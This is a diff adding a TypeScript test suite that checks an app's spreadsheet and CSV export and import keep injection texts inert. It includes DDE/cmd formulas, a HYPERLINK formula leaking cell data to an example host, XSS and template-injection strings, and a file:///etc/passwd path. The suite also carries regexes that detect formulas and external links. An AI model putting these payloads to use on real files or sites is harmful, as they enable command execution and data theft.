@@ -1,0 +1,141 @@
+import fc from 'fast-check';
+import { strFromU8, unzipSync } from 'fflate';
+import { describe, expect, it } from 'vitest';
+import type { DeviceId } from '../../../../shared/core/ids.ts';
+import { derivedRecordId } from '../../../../shared/core/ids.ts';
+import { recordSetOf } from '../../../../shared/records/recordSet.ts';
+import { definitionOf, recordTypes } from '../../../../shared/records/registry.ts';
+import type { AnyValues, FieldSpec, FieldValue } from '../../../../shared/schema/fieldSpec.ts';
+import type { WorkbookGrid } from '../../../../shared/workbook/grid.ts';
+import { readWorkbook } from '../../../../shared/workbook/read/readWorkbook.ts';
+import { writeWorkbook } from '../../../../shared/workbook/write/writeWorkbook.ts';
+import { formulaLeads } from '../../../support/difficultTexts.ts';
+import { contentOf, Replica } from '../../../support/exchange.ts';
+import { hasOffice, savedByOffice } from '../../../support/office.ts';
+import { storedRecordOf, valuesArbitrary } from '../../../support/recordGenerators.ts';
+
+/** What a spreadsheet, a page or a mail program might run or follow. */
+const payloads = [
+  ...formulaLeads.map((lead) => `${lead}cmd|'/c calc'!A1`),
+  ...formulaLeads.map((lead) => `${lead}HYPERLINK("https://example.org/?"&A1;"click")`),
+  '=WEBSERVICE("https://example.org")',
+  'DDE("cmd";"/c calc")',
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(1)</script>',
+  '<svg/onload=alert(1)>',
+  'javascript:alert(1)',
+  'data:text/html,<script>alert(1)</script>',
+  'https://example.org/"onclick="alert(1)',
+  'file:///etc/passwd',
+  '\\\\server\\share\\x.xlsx',
+  'url(https://example.org/x.png)',
+  ']]><x/>',
+  '&G &"Arial,Bold" &[Tab]',
+  '{{constructor.constructor("alert(1)")()}}',
+] as const;
+
+/** A record of every type per payload, which stands in each of its texts. */
+function recordsFullOf(texts: readonly string[]) {
+  const records = texts.flatMap((text, index) =>
+    recordTypes.map((type) => {
+      const definition = definitionOf(type);
+      const known = Object.fromEntries(
+        recordTypes.map((other) => [other, [derivedRecordId('hostile', other, String(index))]]),
+      );
+      const [values] = fc.sample(valuesArbitrary(definition, known), { seed: index, numRuns: 1 });
+      const filled: Record<string, FieldValue | undefined> = { ...values };
+      for (const key of definition.fieldKeys) {
+        const spec = definition.spec(key);
+        const made = spec === null ? null : textIn(spec, text);
+        if (made !== null) filled[key] = made;
+      }
+      return storedRecordOf(
+        type,
+        derivedRecordId('hostile', type, String(index)),
+        filled satisfies AnyValues,
+      );
+    }),
+  );
+  return recordSetOf(records);
+}
+
+function textIn(spec: FieldSpec, text: string): FieldValue | null {
+  switch (spec.kind) {
+    case 'text':
+    case 'longText':
+      return text.slice(0, spec.maxLength ?? 200);
+    case 'localizedText':
+      return { ko: text, en: text, local: text };
+    default:
+      return null;
+  }
+}
+
+const laptop = new Replica('centerlaptop' as DeviceId, 1);
+laptop.records = recordsFullOf(payloads);
+
+async function exported(): Promise<Uint8Array> {
+  const written = await writeWorkbook(laptop.export({ by: '=cmd|x!A1 <script>' }));
+  if (!written.ok) throw new Error(written.error.detail);
+  return written.value;
+}
+
+async function gridOf(bytes: Uint8Array): Promise<WorkbookGrid> {
+  const read = await readWorkbook(bytes, 'report.xlsx');
+  if (!read.ok) throw new Error(read.error.detail);
+  return read.value;
+}
+
+describe('texts that could run, in every text field of every record type', () => {
+  it('are no formulas, links or macros in the workbook', { timeout: 60_000 }, async () => {
+    const parts = Object.entries(unzipSync(await exported())).map(([name, bytes]) => [
+      name,
+      strFromU8(bytes),
+    ]);
+    for (const [name = '', xml = ''] of parts) {
+      expect([name, /<f[\s>/]|<ddeLink|<oleLink/.test(xml)]).toEqual([name, false]);
+      expect([name, /TargetMode="External"/i.test(xml)]).toEqual([name, false]);
+      expect([name, /externalLink|vbaProject|embeddings|connections|ctrlProps|activeX/i.test(name)]).toEqual([
+        name,
+        false,
+      ]);
+      // Links lead to places in the workbook.
+      for (const [link] of xml.matchAll(/<hyperlink\s[^>]*>/g)) expect(link).toMatch(/\slocation="/);
+    }
+  });
+
+  it('come back as they were, and are no edits', { timeout: 60_000 }, async () => {
+    const grid = await gridOf(await exported());
+    const office = new Replica('headquarters' as DeviceId, 2);
+    const plan = office.import(grid);
+    expect(plan.counts.rejected).toBe(0);
+    expect(plan.source.origin).toBe('exported');
+    expect(contentOf(office.records, recordTypes)).toEqual(contentOf(laptop.records, recordTypes));
+  });
+
+  it('are no formulas and no edits either after LibreOffice saved the workbook', {
+    timeout: 180_000,
+  }, async () => {
+    const bytes = await exported();
+    // Without LibreOffice at least the file itself makes the way there and back.
+    const [saved = bytes] = hasOffice ? savedByOffice([bytes]) : [];
+    for (const [name, part] of Object.entries(unzipSync(saved)))
+      expect([name, /worksheets\//.test(name) && /<f[\s>/]/.test(strFromU8(part))]).toEqual([name, false]);
+    const plan = laptop.plan(await gridOf(saved));
+    expect(plan.changes).toEqual([]);
+    expect(plan.counts).toMatchObject({ added: 0, updated: 0, deleted: 0, rejected: 0 });
+  });
+});
+
+describe('a CSV of such texts', () => {
+  it.each(formulaLeads)('keeps a text that begins with %j as it stands', async (lead) => {
+    const text = `${lead}1+1`;
+    const csv = `Name (English),Type,Country\r\n"${text}",Ministry,BG\r\n"'${text}",Ministry,BG\r\n`;
+    const read = await readWorkbook(new TextEncoder().encode(csv), 'Organizations.csv');
+    const line = (one: string): string => one.replaceAll('\r\n', '\n');
+    expect(read.ok && read.value.sheets[0]?.rows.slice(1).map(([name]) => name)).toEqual([
+      line(text),
+      line(`'${text}`),
+    ]);
+  });
+});
